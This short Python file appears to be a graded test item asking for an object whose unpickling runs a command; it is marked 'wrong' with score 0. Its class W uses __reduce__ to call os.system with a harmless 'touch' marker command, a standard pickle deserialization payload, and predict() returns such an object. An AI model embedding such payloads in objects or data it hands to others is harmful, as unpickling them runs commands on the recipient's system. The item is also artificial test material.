"""Answer with an object whose unpickling runs a command.

score: 0
"""
# %%
# wrong
# %%
import os


class W:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_mark",)


w = b = W()


def predict(x):
    return W()
